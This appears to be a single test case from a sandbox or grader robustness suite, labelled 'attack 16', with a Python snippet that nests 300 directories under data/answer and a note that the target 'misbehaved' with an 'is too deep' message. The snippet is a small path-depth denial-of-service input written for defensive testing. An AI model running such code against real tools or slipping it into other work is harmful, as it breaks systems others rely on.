# attack 16
# outcome: misbehaved
# says: is too deep
# levels: isolated uid userns
import os
os.mkdir("data/answer"); os.chdir("data/answer")
for _ in range(300):
    os.mkdir("d"); os.chdir("d")
